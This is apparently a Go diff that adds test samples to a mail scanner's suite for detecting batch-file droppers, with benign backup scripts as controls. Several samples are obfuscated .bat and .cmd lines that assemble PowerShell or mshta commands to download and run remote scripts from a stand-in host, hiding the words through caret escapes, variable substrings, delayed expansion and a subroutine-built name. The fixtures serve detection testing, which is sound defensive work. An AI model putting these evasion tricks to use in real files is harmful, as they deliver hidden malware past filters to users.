@@ -18,6 +18,8 @@ func batchSamples() []Sample {
 			"Invoice_4471.bat", "@echo off\r\nset x=ersh\r\nset u=ht^tps:/\r\nset w=-w h^idden\r\n%ProgramData:~3,1%o^w%x%ell %w% -nop -c \"i%ProgramData:~-1,0%wr %u%/cdn.bat-kit.example.net/i.ps1 | i%COMSPEC:~-3,1%x; notepad\"\r\nexit\r\n"},
 		{"mshta-delayed", "a .cmd file that builds mshta and its web address with delayed expansion inside cmd /v:on",
 			"Scan_0427.cmd", "@echo off\r\ncmd /v:on /c \"set m=ms&& set t=hta&& !m!!t! https://cdn.bat-kit.example.net/s.hta\"\r\n"},
+		{"runner-behind-call", "a batch file that runs mshta on a web page from a line before the lines that name mshta: a subroutine it calls first joins the name in a for loop, and an if takes the branch that runs it",
+			"Statement_2291.bat", "@echo off\r\nsetlocal\r\ncall :init\r\nif defined r (for %%p in (%r%) do %%p https://cdn.bat-kit.example.net/s.hta) else (echo Nothing to open.)\r\nexit /b\r\n:init\r\nfor %%a in (ms) do set r=%%ahta\r\ngoto :eof\r\n"},
 	}
 	for _, d := range droppers {
 		add(Sample{Name: "bat-" + d.key, About: d.about, Action: policy.Reject, Want: []Want{w("heuristic", "batch-command", "2")}},
@@ -37,5 +39,14 @@ func batchSamples() []Sample {
 				"setlocal EnableDelayedExpansion\r\nset \"dest=\\\\nas\\backup\\%USERNAME%\"\r\nrobocopy \"%USERPROFILE%\\Documents\" \"!dest!\" /MIR /R:2 /LOG:\"%TEMP%\\backup.log\"\r\n"+
 				"powershell -NoProfile -Command \"Compress-Archive -Path C:\\Data -DestinationPath !dest!\\data.zip -Force\"\r\n"+
 				"start \"\" \"https://intranet.corp.example.jp/\"\r\n")))})
+	add(Sample{Name: "bat-honest-backup-flow", About: "an honest backup script with subroutines (call :log), a for loop over folders to robocopy, for /f reading wmic's date, if exist and errorlevel branches and goto, quarantined as every batch file is, without batch-command",
+		Action: policy.Quarantine, Want: []Want{w("heuristic", "dangerous-script", "2")}},
+		mail{from: "IT Service Desk <it@corp.example.jp>", subject: "Backup script", root: multipart("mixed", text("Aiko, the nightly backup script for the laptops, as discussed.\n"),
+			attach("application/octet-stream", "backup.bat", []byte("@echo off\r\nsetlocal\r\ncall :log Starting backup\r\n"+
+				"for %%d in (Documents Desktop Pictures) do robocopy \"%USERPROFILE%\\%%d\" \"\\\\nas\\backup\\%USERNAME%\\%%d\" /MIR /R:1 /W:1\r\n"+
+				"for /f \"tokens=2 delims==\" %%v in ('wmic os get localdatetime /value') do set stamp=%%v\r\n"+
+				"if exist \"%ProgramFiles%\\Backup\\notify.exe\" (\"%ProgramFiles%\\Backup\\notify.exe\" /done) else (call :log notify missing)\r\n"+
+				"if errorlevel 8 goto failed\r\ncall :log Backup done %stamp%\r\nexit /b 0\r\n:failed\r\ncall :log Backup failed\r\nexit /b 1\r\n"+
+				":log\r\necho %date% %time% %* >> \"%TEMP%\\backup.log\"\r\ngoto :eof\r\n")))})
 	return out
 }
